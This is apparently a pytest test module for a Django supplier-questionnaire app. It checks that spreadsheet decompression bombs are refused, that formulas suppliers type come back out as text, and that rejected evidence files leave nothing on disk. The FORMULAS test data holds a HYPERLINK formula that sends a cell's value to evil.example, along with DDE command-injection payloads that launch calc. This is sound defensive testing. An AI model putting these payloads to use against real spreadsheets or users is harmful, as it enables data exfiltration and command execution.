"""Hostile uploads from a supplier: questionnaire bombs, formulas in answers, files left on disk.

The bombs are built here, small on disk (a sheet's XML streamed into the zip). Each is read in a
child process that measures its own time and peak memory. The bounds asserted are safety bounds,
far above what the checked reader needs (well under a second and 40 MB on a shared two-core
machine) and far below what the unchecked one took (6 to 19 s, 0.4 to 1.2 GB): they catch a
reader that parses the bomb, not a slow machine.
"""

from __future__ import annotations

import io
import itertools
import zipfile
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.urls import reverse
from django.utils.translation import override
from openpyxl import load_workbook

from shuhi.suppliers.excel import ExcelError, read_workbook
from shuhi.suppliers.models import Assessment, Evidence
from shuhi.suppliers.schema import build, builtin_contents
from shuhi.suppliers.services import evidence_add
from shuhi.suppliers.testing import PDF
from shuhi.testing.workbooks import (
    bounded_run,
    identical_cells,
    identical_strings,
    incompressible,
    text_row,
    xlsx,
)

pytestmark = pytest.mark.django_db
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
TOO_LARGE = "too large when unpacked"
TOO_LARGE_JA = "展開すると大きすぎる"
SECONDS, GROWN_MB = 15, 150  # safety bounds, see the module's docstring
DOC = build(builtin_contents()[0])


def questionnaire(rows, strings=None, assessment_id: int = 1) -> bytes:
    """A workbook that names the built-in questionnaire, so a reader goes on past the meta sheet."""
    meta = [text_row(1, ["assessment", assessment_id]), text_row(2, ["framework", DOC.id]),
            text_row(3, ["version", DOC.version])]
    return xlsx({"questionnaire": rows, "meta": meta}, strings)


def read_in_child(path: Path):
    return bounded_run(f"""
        from pathlib import Path
        from shuhi.suppliers.excel import ExcelError, read_workbook
        from shuhi.suppliers.schema import build, builtin_contents
        try:
            read_workbook(Path({str(path)!r}).read_bytes(), doc=build(builtin_contents()[0]), assessment_id=1)
            outcome = ["read"]
        except ExcelError as exc:
            outcome = exc.problems
    """)


def assert_refused_in_bounds(run) -> None:
    assert any(TOO_LARGE in problem for problem in run.outcome), run.outcome
    assert run.seconds < SECONDS, f"{run.seconds:.1f} s"
    assert run.grown_mb < GROWN_MB, f"{run.grown_mb:.0f} MB"


def test_the_probes_million_identical_cells_are_refused_quickly_and_in_little_memory(tmp_path):
    path = tmp_path / "cells.xlsx"
    path.write_bytes(questionnaire(identical_cells(1000, 1000), identical_strings(1)))
    assert path.stat().st_size < 100_000
    assert_refused_in_bounds(read_in_child(path))


def test_a_million_cells_packed_under_the_ratio_limit_are_refused_by_counting_them(tmp_path):
    path = tmp_path / "dodge.xlsx"
    path.write_bytes(questionnaire(itertools.chain([incompressible(300_000)], identical_cells(1000, 1000)),
                                   identical_strings(1)))
    with zipfile.ZipFile(path) as archive:  # the zip directory alone does not give this one away
        sheet = archive.getinfo("xl/worksheets/sheet1.xml")
        assert sheet.file_size < 100 * sheet.compress_size
    assert_refused_in_bounds(read_in_child(path))


def test_a_million_cells_in_one_row_are_refused_before_openpyxl_holds_the_row(tmp_path):
    path = tmp_path / "row.xlsx"
    path.write_bytes(questionnaire([incompressible(60_000), b"<row>" + b"<c/>" * 1_000_000 + b"</row>"]))
    assert_refused_in_bounds(read_in_child(path))


@pytest.mark.parametrize(("count", "padding"), [(1_000_000, 0), (200_000, 40_000)],
                         ids=["a-million", "under-the-ratio-limit"])
def test_a_bomb_of_shared_strings_is_refused_quickly_and_in_little_memory(tmp_path, count, padding):
    path = tmp_path / "strings.xlsx"
    strings = itertools.chain([incompressible(padding)] if padding else [], identical_strings(count))
    path.write_bytes(questionnaire([text_row(1, ["ID"])], strings))
    assert_refused_in_bounds(read_in_child(path))


def test_cells_far_to_the_right_are_counted_as_they_are_read():
    # openpyxl fills a row out to its last cell: five cells in column XFD read as 81,920.
    rows = [b'<row r="%d"><c r="XFD%d"><v>1</v></c></row>' % (n, n) for n in range(1, 6)]
    with pytest.raises(ExcelError) as refused, override("en"):
        read_workbook(questionnaire(rows), doc=DOC, assessment_id=1)
    assert "more than 50,000 cells" in refused.value.problems[0]


def test_a_refused_workbook_saves_nothing_and_says_why(client, cast, setup, login):
    login(cast.rep_a)
    bomb = questionnaire(identical_cells(1000, 1000), identical_strings(1), assessment_id=setup["a"].pk)
    response = client.post(reverse("suppliers:excel_upload", args=[setup["a"].pk]),
                           {"file": SimpleUploadedFile("a.xlsx", bomb, content_type=XLSX)}, follow=True)
    messages = [str(m) for m in response.context["messages"]]
    assert any(TOO_LARGE in m or TOO_LARGE_JA in m for m in messages), messages
    assert Assessment.objects.get(pk=setup["a"].pk).answers == {}


FORMULAS = {
    "MA-1": '=HYPERLINK("http://evil.example/?x="&C3,"詳しくはこちら")',
    "MA-2": "+cmd|' /C calc'!A0",
    "MA-3": "@SUM(1+1)*cmd|' /C calc'!A0",
    "OS-7": "-2+3+cmd|' /C calc'!A0",
}


def test_a_formula_typed_by_a_supplier_goes_out_as_text_and_comes_back_unchanged(client, cast, setup, login):
    assessment = setup["a"]
    login(cast.rep_a)
    posted = {f"c-{qid}": text for qid, text in FORMULAS.items()}
    posted["q-OS-7"] = FORMULAS["OS-7"]
    assert client.post(reverse("suppliers:assessment", args=[assessment.pk]), posted).status_code == 302
    saved = Assessment.objects.get(pk=assessment.pk).answers
    data = client.get(reverse("suppliers:excel", args=[assessment.pk])).content

    sheet = load_workbook(io.BytesIO(data))["回答"]
    cells = [cell for row in sheet.iter_rows(min_row=2) if row[0].value in FORMULAS for cell in row[5:7]]
    typed = [cell for cell in cells if cell.value in FORMULAS.values()]
    assert len(typed) == 5  # four comments and the answer to OS-7
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in typed)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")  # no formula anywhere in the sheet

    response = client.post(reverse("suppliers:excel_upload", args=[assessment.pk]),
                           {"file": SimpleUploadedFile("a.xlsx", data, content_type=XLSX)}, follow=True)
    assert not any("Nothing" in str(m) or "何も" in str(m) for m in response.context["messages"])
    again = Assessment.objects.get(pk=assessment.pk).answers
    assert {qid: again[qid]["comment"] for qid in FORMULAS} == FORMULAS
    assert again["OS-7"]["value"] == saved["OS-7"]["value"] == FORMULAS["OS-7"]


def files_under(folder: Path) -> list[Path]:
    return [path for path in Path(folder).rglob("*") if path.is_file()]


def test_a_rejected_upload_leaves_no_file_behind_even_when_an_earlier_file_was_written(client, cast, setup,
                                                                                       login, private_media):
    login(cast.rep_a)
    good = SimpleUploadedFile("方針.pdf", PDF, content_type="application/pdf")
    fake = SimpleUploadedFile("手順.pdf", b"MZ\x90\x00 not a pdf", content_type="application/pdf")
    response = client.post(reverse("suppliers:assessment", args=[setup["a"].pk]),
                           {"f-VP-3": good, "f-OS-4": fake, "action": "save"})
    assert response.status_code == 400
    assert not Evidence.objects.exists()
    assert files_under(private_media) == []


def test_evidence_for_a_question_that_takes_no_file_is_refused_and_leaves_no_file(client, cast, setup, login,
                                                                                  private_media):
    login(cast.rep_a)
    upload = SimpleUploadedFile("方針.pdf", PDF, content_type="application/pdf")
    response = client.post(reverse("suppliers:assessment", args=[setup["a"].pk]), {"f-MA-1": upload})
    assert response.status_code == 400
    assert "MA-1" in response.context["errors"]
    assert not Evidence.objects.exists()
    assert files_under(private_media) == []
    with pytest.raises(Exception, match="MA-1"):
        evidence_add(actor=cast.rep_a, assessment=setup["a"], question_id="MA-1",
                     upload=SimpleUploadedFile("方針.pdf", PDF))
    assert files_under(private_media) == []


def test_a_file_written_in_a_transaction_that_rolls_back_is_deleted(cast, setup, private_media):
    class Later(Exception):
        pass

    with pytest.raises(Later), transaction.atomic():
        evidence = evidence_add(actor=cast.rep_a, assessment=setup["a"], question_id="VP-3",
                                upload=SimpleUploadedFile("方針.pdf", PDF))
        assert Path(evidence.file.path).read_bytes() == PDF
        raise Later  # whatever fails after the file was written: the row goes, so must the file
    assert not Evidence.objects.exists()
    assert files_under(private_media) == []


@pytest.mark.django_db(transaction=True)
def test_an_evidence_file_whose_transaction_commits_stays(cast, setup, private_media):
    import gc

    evidence = evidence_add(actor=cast.rep_a, assessment=setup["a"], question_id="VP-3",
                            upload=SimpleUploadedFile("方針.pdf", PDF))
    gc.collect()
    assert Path(evidence.file.path).read_bytes() == PDF
    assert files_under(private_media) == [Path(evidence.file.path)]
